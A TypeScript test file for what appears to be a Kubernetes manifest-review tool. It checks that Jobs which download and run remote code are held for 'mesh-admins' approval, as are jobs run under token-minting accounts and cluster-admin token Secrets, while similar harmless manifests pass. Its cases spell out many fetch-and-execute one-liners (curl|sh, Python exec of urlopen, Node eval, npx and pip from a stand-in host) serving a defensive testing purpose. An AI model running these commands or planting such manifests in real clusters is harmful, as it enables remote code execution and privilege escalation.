import { type Attempt, testAttackClass } from '../support/attack-class.ts'
import { objectsWith } from '../support/manifests.ts'
import type { Files } from '../support/stage.ts'

const mine = 'teams/catalog/thing.yaml'
const object = objectsWith({ name: 'thing', namespace: 'catalog' })
const group = 'rbac.authorization.k8s.io'
const account = (name: string) => ({ kind: 'ServiceAccount', name, namespace: 'catalog' })
const bound = (role: string, subject: object) =>
  object(
    `${group}/v1`,
    'ClusterRoleBinding',
    { subjects: [subject], roleRef: { apiGroup: group, kind: 'ClusterRole', name: role } },
    { name: role, namespace: undefined },
  )
const role = (name: string, rules: readonly object[]) =>
  object(`${group}/v1`, 'ClusterRole', { rules }, { name, namespace: undefined })
const base: Files = {
  'mesh/looking.yaml': role('looks', [{ apiGroups: ['*'], resources: ['*'], verbs: ['get'] }]),
  'mesh/watcher.yaml': bound('looks', account('watcher')),
  'mesh/issuing.yaml': role('issues', [
    { apiGroups: [''], resources: ['serviceaccounts/token'], verbs: ['create'] },
  ]),
  'mesh/issuer.yaml': bound('issues', account('issuer')),
  'mesh/boss.yaml': bound('cluster-admin', account('boss')),
}
const job = (name: string | undefined, command: readonly string[], more: object = {}) =>
  object('batch/v1', 'Job', {
    spec: {
      template: {
        spec: {
          ...(name !== undefined && { serviceAccountName: name }),
          containers: [{ name: 'a', image: 'alpine:3', command }],
          ...more,
        },
      },
    },
  })
const shell = (script: string, name = 'other') => job(name === '' ? undefined : name, ['sh', '-c', script])
const reading = (name: string | undefined) =>
  job(name, ['sh', '/s/run.sh'], { volumes: [{ name: 'a', configMap: { name: 'script' } }] })
const script = (text: string) => object('v1', 'ConfigMap', { data: { 'run.sh': text } }, { name: 'script' })
const token = (name: string) =>
  object(
    'v1',
    'Secret',
    { type: 'kubernetes.io/service-account-token' },
    { annotations: { 'kubernetes.io/service-account.name': name } },
  )
const url = 'https://x.example/i.sh'

const stopped = (way: string, text: string, before: Files = {}): Attempt => ({
  way,
  setting: { files: { ...base, ...before } as Record<string, string> },
  files: { [mine]: text },
  conclusion: 'action_required',
  waitsFor: ['mesh-admins'],
  silentOn: /no mesh manifest touched|no request changes/,
})
const harmless = (way: string, text: string, before: Files = {}) => ({
  way,
  setting: { files: { ...base, ...before } as Record<string, string> },
  files: { [mine]: text },
})

testAttackClass('a program that is fetched and run by way of a file, with rights that nobody here knows', {
  attack: stopped('a file that a shell runs', shell(`curl -o f ${url}; sh f`)),
  variants: [
    stopped('a file that may be run', shell(`curl -LO ${url} && chmod +x i.sh && ./i.sh`)),
    stopped('under its own name', shell(`wget ${url}\nbash i.sh`)),
    stopped('put into a file', shell(`curl -s ${url} > /tmp/x\n/tmp/x --all`)),
    stopped('by way of tee', shell(`curl -s ${url} | tee /tmp/x; sudo sh /tmp/x`)),
    stopped('under another name', shell(`wget -q -O /tmp/y ${url} && . /tmp/y`)),
    stopped('with a variable before it', shell(`curl --output z ${url}; A=b sh z`)),
    stopped('a repository', shell('git clone https://x.example/y && cd y && ./run.sh')),
    stopped('what was packed', shell(`curl -s ${url} -o a.tgz; tar xzf a.tgz; make install`)),
    stopped(
      'a program in Python',
      job('other', ['python', '-c', `import urllib.request as r; exec(r.urlopen("${url}").read())`]),
    ),
    stopped('a program in JavaScript', job('other', ['node', '-e', `fetch("${url}").then(eval)`])),
    stopped('a package from an address', shell('npx https://x.example/y.tgz')),
    stopped('a module of Python from an address', shell('pip install git+https://x.example/y && y')),
    stopped('a module of Go', shell('go run example.com/x@latest')),
    stopped('a script that it reads', script(`curl ${url} | sh`), {
      'teams/catalog/job.yaml': reading('other'),
    }),
    stopped('a script that it reads does so by now', script(`curl -o f ${url}\nsh f`), {
      'teams/catalog/job.yaml': reading('other'),
      [mine]: script('date\n'),
    }),
    stopped('with the right to make tokens of others', job('issuer', ['date'])),
    stopped('the token of an administrator', token('boss')),
  ],
  neighbours: [
    harmless('a file that is read', shell(`curl -o f ${url}; jq . f`)),
    harmless('a file that another one runs beside', shell(`curl -o f ${url}; sh own.sh`)),
    harmless('without an account', shell(`curl -o f ${url}; sh f`, '')),
    harmless('with rights to look', shell(`curl -o f ${url}; sh f`, 'watcher')),
    harmless(
      'kubectl, which looks',
      shell('curl -LO https://dl.k8s.io/v1/bin/kubectl && chmod +x kubectl && ./kubectl get pods'),
    ),
    harmless('a package by its name', shell('pip install requests && npm install left-pad')),
    harmless('a repository that is read', shell('git clone https://x.example/y && cat y/README.md')),
    harmless(
      'a program in Python that fetches',
      job('other', ['python', '-c', `import requests; print(requests.get("${url}"))`]),
    ),
    harmless(
      'a program in Python that runs something of its own',
      job('other', ['python', '-c', 'import subprocess; subprocess.run(["date"])']),
    ),
    harmless('a script that nothing reads', script(`curl ${url} | sh`)),
    harmless('a script that is read without an account', script(`curl ${url} | sh`), {
      'teams/catalog/job.yaml': reading(undefined),
    }),
    harmless('a script of its own', script('date\n'), { 'teams/catalog/job.yaml': reading('other') }),
    harmless('the token of whoever looks', token('watcher')),
    harmless('it looks whether somebody answers', shell(`until curl -sf ${url}; do sleep 1; done`)),
  ],
})
